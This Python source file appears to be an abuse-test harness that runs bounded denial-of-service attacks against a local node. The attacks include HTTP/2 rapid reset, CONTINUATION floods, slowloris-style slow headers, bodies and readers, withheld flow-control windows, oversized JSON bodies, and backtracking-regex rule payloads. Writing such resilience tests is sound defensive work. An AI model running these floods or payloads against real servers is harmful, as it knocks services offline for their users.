# SPDX-License-Identifier: Apache-2.0
"""What is done to a node while somebody else uses it. One attack is one function and one row of ATTACKS; adding one is adding a row.

    python3 test/abuse/attacks.py NAME < target.json        prints "ready" when it is under way, ends after target["seconds"]
                                                            with a line: its share of a processor, and what it did

An attack runs in a process of its own, which abuse.py starts so that it only gets what is left of the processors: in reality it runs on other
machines. It comes from addresses of its own (127.0.1.x), has bounds in count and time, and never minds what is answered.
"""
import json
import os
import resource
import socket
import ssl
import sys
import time
from collections import Counter

sys.path.insert(0, os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "api"))
from http2 import CONTINUATION, END_STREAM, HEADERS, RST_STREAM, Http2, frame, literal  # noqa: E402

PREFIX = "/api/svc/v2"
WIDE = 2 ** 31 - 1
TCP_ESTABLISHED = 1
CANCEL = b"\0\0\0\x08"


class Target:
    """What an attack knows: where the node is, and the credentials of a tenant that is not the victim."""

    def __init__(self, facts):
        self.__dict__.update(facts)
        self.context = ssl.create_default_context(cafile=self.ca)
        self.until, self.is_ready, self.counts = None, False, Counter()

    def ready(self):
        """From here on the time counts."""
        self.until, self.is_ready, self.spent = time.monotonic() + self.seconds, True, time.process_time()
        print("ready", flush=True)

    def goes_on(self):
        if not self.is_ready:
            self.ready()
        return time.monotonic() < self.until

    def report(self):
        """For the line of this attack: was it really one?"""
        did = ", ".join("%d %s" % (count, what) for what, count in self.counts.items())
        return {"cpu": (time.process_time() - self.spent) / self.seconds, "did": did or "-"}

    def source(self, number):
        return "127.0.1.%d" % (1 + number % 200)

    def tls(self, number=0, receive_buffer=None):
        raw = socket.socket()
        if receive_buffer:
            raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        raw.settimeout(10)
        raw.bind((self.source(number), 0))
        raw.connect(("127.0.0.1", self.port))
        return self.context.wrap_socket(raw, server_hostname="localhost")

    def h2(self, number=0, window=WIDE, **more):
        connection = Http2(self, window=window, source=self.source(number), **more)
        if window > 65535:
            connection.widen(0, WIDE - 65535)
        connection.read(0.2)
        return connection

    def events(self):
        return PREFIX + "/orgs/%s/events?itemsPerPage=500" % self.org

    def head(self, method, path, more=""):
        return ("%s %s HTTP/1.1\r\nHost: localhost\r\n%s" % (method, path, more)).encode()

    def bearer(self):
        return "Authorization: Bearer %s\r\n" % self.token


def only_computes(target):
    """no attack: a process for each processor that is always busy, and never talks to the node"""
    target.ready()
    for _ in range(os.cpu_count() - 1):
        if os.fork() == 0:
            while time.monotonic() < target.until:
                pass
            os._exit(0)
    while target.goes_on():
        pass


def drain(connections, seconds=0.05):
    for one in connections:
        one.read(seconds / max(1, len(connections)))


def quietly(work, *arguments):
    """A node that hangs up is no failure of the attack."""
    try:
        return work(*arguments)
    except OSError:
        return None


# ---- Time ----
def large_pages(target, takes_back=False):
    """R1: five hundred pages of 500 events at a time, over four connections, for as long as it lasts"""
    connections = [target.h2(n) for n in range(4)]
    while target.goes_on():
        for number, one in enumerate(connections):
            open_streams = (one.next - 1) // 2 - len(one.ended) - len(one.reset)
            if takes_back:
                open_streams = 0
            asked = [one.request("GET", target.events(), target.token) for _ in range(max(0, 125 - open_streams))]
            target.counts["pages"] += len(asked)
            data = b"".join(part for _, part in asked)
            if takes_back:
                data += b"".join(frame(RST_STREAM, 0, stream, CANCEL) for stream, _ in asked)
            if quietly(one.send, data) is None and not quietly(one.read, 0.01):
                connections[number] = quietly(target.h2, number) or one
            if takes_back:
                time.sleep(0.02)
        drain(connections)


def large_pages_taken_back(target):
    """R1: the same, each taken back at once"""
    large_pages(target, takes_back=True)


def rules(target):
    """S4: rules that compute for seconds, stored before they were refused, looked through and validated; and the most costly ones that are offered"""
    hostile = " || ".join(["(1e131000/7)%(1e65000/3)>1"] * 60)
    costly = '$.** like_regex "(x+x+)+y" || exists($.tags[*] ? (exists($.tags[*] ? (@.key == $.tags[*].key))))'
    bodies = [json.dumps({"name": "x", "policies": [{"body": body}] * 10}).encode() for body in (hostile[:1990], costly)]
    paths = [target.head("GET", PREFIX + "/orgs/%s/nonCompliantResources" % target.org, target.bearer() + "\r\n")]
    paths += [target.head("POST", PREFIX + "/orgs/%s/resourcePolicies:validate" % target.org,
                          target.bearer() + "Content-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(body)) + body for body in bodies]
    on_connections(target, 12, lambda number: paths[number % len(paths)])


def values(target):
    """S6: bodies of 349,000 empty objects from a caller of the lowest role, where a body is taken and where none is"""
    body = b"[" + b",".join([b"{}"] * 349000) + b"]"
    length = "Content-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(body)
    heads = [target.head("POST", PREFIX + "/groups/%s/accessList" % target.project, target.bearer() + length),
             target.head("GET", PREFIX + "/orgs/" + target.org, target.bearer() + length)]
    on_connections(target, 12, lambda number: heads[number % 2] + body)


def on_connections(target, count, request):
    """Each connection asks again as soon as it was answered; those that the node closed are opened again."""
    sockets = [None] * count
    sent = [0.0] * count
    while target.goes_on():
        for number in range(count):
            if sockets[number] is None:
                sockets[number] = quietly(target.tls, number)
                if sockets[number] is None:
                    continue
                sockets[number].settimeout(0.05)
                sent[number] = 0
            if not sent[number]:
                sockets[number].settimeout(5)
                if quietly(sockets[number].sendall, request(number)) is None and sockets[number].fileno() < 0:
                    sockets[number] = None
                    continue
                target.counts["requests"] += 1
                sent[number] = time.monotonic()
                sockets[number].settimeout(0.002)
            try:
                if not sockets[number].recv(65536):
                    raise OSError("closed")
                sent[number] = 0
            except TimeoutError:
                pass
            except OSError:
                sockets[number].close()
                sockets[number] = None


# ---- Memory ----
def bodies_of_strangers(target):
    """S5: 300 bodies of 1 MiB without credentials, all of them but the last byte, held"""
    body = b"x" * (1024 * 1024 - 1)
    head = target.head("POST", PREFIX + "/groups", "Content-Type: application/json\r\nContent-Length: %d\r\n\r\n" % (len(body) + 1))
    held = []
    for number in range(300):
        one = quietly(target.tls, number)
        if one is not None:
            one.settimeout(2)
            quietly(one.sendall, head + body)
            target.counts["bodies"] += 1
            held.append(one)
        if number == 100:
            target.ready()
        if target.is_ready and not target.goes_on():
            break
    while target.goes_on():
        time.sleep(0.1)


def unread_answers(target):
    """R2: 8 connections with 125 large pages each whose windows stay shut, a byte each second"""
    connections = [target.h2(n, window=0) for n in range(8)]
    target.counts["pages"] = 8 * 125
    for one in connections:
        quietly(one.send, b"".join(one.request("GET", target.events(), target.token)[1] for _ in range(125)))
    while target.goes_on():
        for one in connections:
            quietly(one.widen, 1, 1)
            quietly(one.read, 0.01)
        time.sleep(1)


# ---- HTTP/2 ----
def rapid_reset(target, method="GET", path=None, token=None, more=(), rate=20000):
    """requests that are taken back as soon as they were sent, as fast as it goes, over three connections"""
    path = path or PREFIX + "/orgs/" + target.org
    connections = [target.h2(n) for n in range(3)]
    began, count = time.monotonic(), 0
    while target.goes_on():
        for number, one in enumerate(connections):
            data = b""
            for _ in range(100):
                stream, part = one.request(method, path, token or target.token, more)
                data += part + frame(RST_STREAM, 0, stream, CANCEL)
            count += 100
            target.counts["requests"] += 100
            try:
                one.send(data)
                alive = one.read(0.001)
            except OSError:
                alive = False
            if not alive or one.next > 2 ** 30:
                connections[number] = quietly(target.h2, number) or one
        time.sleep(max(0, count / rate - (time.monotonic() - began)))


def token_resets(target):
    """R6: the same with the token endpoint, without credentials: each wrote a line of the log"""
    rapid_reset(target, "POST", "/api/oauth/token", "none", (("content-type", "application/x-www-form-urlencoded"),))


def continuation(target):
    """headers that never end: CONTINUATION frames, as fast as it goes, over four connections"""
    piece = frame(CONTINUATION, 0, 1, literal("x-filler", "y" * 100) * 20)
    connections = [None] * 4
    while target.goes_on():
        for number in range(4):
            try:
                if connections[number] is None:
                    connections[number] = target.h2(number)
                    connections[number].send(frame(HEADERS, END_STREAM, 1, connections[number].headers("GET", PREFIX, target.token)))
                connections[number].send(piece * 8)
                target.counts["frames"] += 8
                if not connections[number].read(0.001):
                    raise OSError("closed")
            except OSError:
                connections[number] = None
        time.sleep(0.005)


# ---- Slowness ----
class Crowd:
    """So many connections at once; one that the node ended is opened again. `first` is what each begins with."""

    def __init__(self, target, first, visit):
        self.target, self.first, self.visit = target, first, visit
        self.held = []
        while len(self.held) < target.slow:
            one = self.open(len(self.held))
            self.held.append(one)
            if len(self.held) % 100 == 0:
                self.go_round()  # or the first ones would be gone before the last ones are there
        target.counts["opened again"] = 0

    def open(self, number):
        one = quietly(self.target.tls, number, 4096)
        if one is not None:
            one.setblocking(False)
            quietly(one.send, self.first)
        return one

    def go_round(self):
        for number, one in enumerate(self.held):
            if self.target.is_ready and not self.target.goes_on():
                return
            if one is None or one.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0] != TCP_ESTABLISHED:
                self.target.counts["opened again"] += 1
                if one is not None:
                    one.close()
                self.held[number] = self.open(number)
                continue
            quietly(self.visit, one)

    def run(self):
        while self.target.goes_on():
            began = time.monotonic()
            self.go_round()
            time.sleep(max(0.05, 1 - (time.monotonic() - began)))


def slow_headers(target):
    """2,000 connections whose headers come a byte a second"""
    Crowd(target, target.head("GET", PREFIX, "X-Slow: "), lambda one: one.send(b"a")).run()


def slow_bodies(target):
    """2,000 bodies that come a byte a second, with credentials"""
    head = target.head("POST", PREFIX + "/groups", target.bearer() + "Content-Type: application/json\r\nContent-Length: 100000\r\n\r\n{")
    Crowd(target, head, lambda one: one.send(b" ")).run()


def slow_readers(target):
    """2,000 pages that are larger than what the kernel takes of them, read a byte a second"""
    Crowd(target, target.head("GET", target.events(), target.bearer() + "\r\n"), lambda one: one.recv(1)).run()


def streams(target):
    """every event stream that a tenant with twenty callers can open, while it changes something as often as it can"""
    accept = "Accept: text/event-stream\r\n\r\n"
    held = []
    for number in range(20 * 12):
        token = target.tokens[number % len(target.tokens)]
        one = quietly(target.tls, number)
        if one is not None:
            one.settimeout(1)
            quietly(one.sendall, target.head("GET", PREFIX + "/orgs/%s/events" % target.org, "Authorization: Bearer %s\r\n" % token + accept))
            held.append(one)
    writer, number = target.tls(), 0
    writer.settimeout(5)
    while target.goes_on():
        body = json.dumps({"tags": [{"key": "n", "value": str(number)}]})
        quietly(writer.sendall, target.head("PATCH", PREFIX + "/groups/" + target.project, target.bearer() +
                "Content-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(body)) + body.encode())
        quietly(writer.recv, 65536)
        target.counts["changes"] += 1
        for one in held:
            one.setblocking(False)
            try:
                one.recv(65536)
            except (ssl.SSLError, OSError):
                pass
        number += 1
        time.sleep(0.02)


# name: (finding, what runs)
ATTACKS = {
    "control": ("-", only_computes),
    "rules": ("S4", rules),
    "bodies of strangers": ("S5", bodies_of_strangers),
    "values": ("S6", values),
    "large pages": ("R1", large_pages),
    "large pages, taken back": ("R1", large_pages_taken_back),
    "unread answers": ("R2", unread_answers),
    "token resets": ("R6", token_resets),
    "rapid reset": ("-", rapid_reset),
    "continuation flood": ("-", continuation),
    "slow headers": ("-", slow_headers),
    "slow bodies": ("-", slow_bodies),
    "slow readers": ("-", slow_readers),
    "event streams": ("-", streams),
}


def main():
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    target = Target(json.load(sys.stdin))
    ATTACKS[sys.argv[1]][1](target)
    if not target.is_ready:
        target.ready()
    print(json.dumps(target.report()), flush=True)
    os._exit(0)  # thousands of connections are closed by the kernel at once


if __name__ == "__main__":
    sys.exit(main())
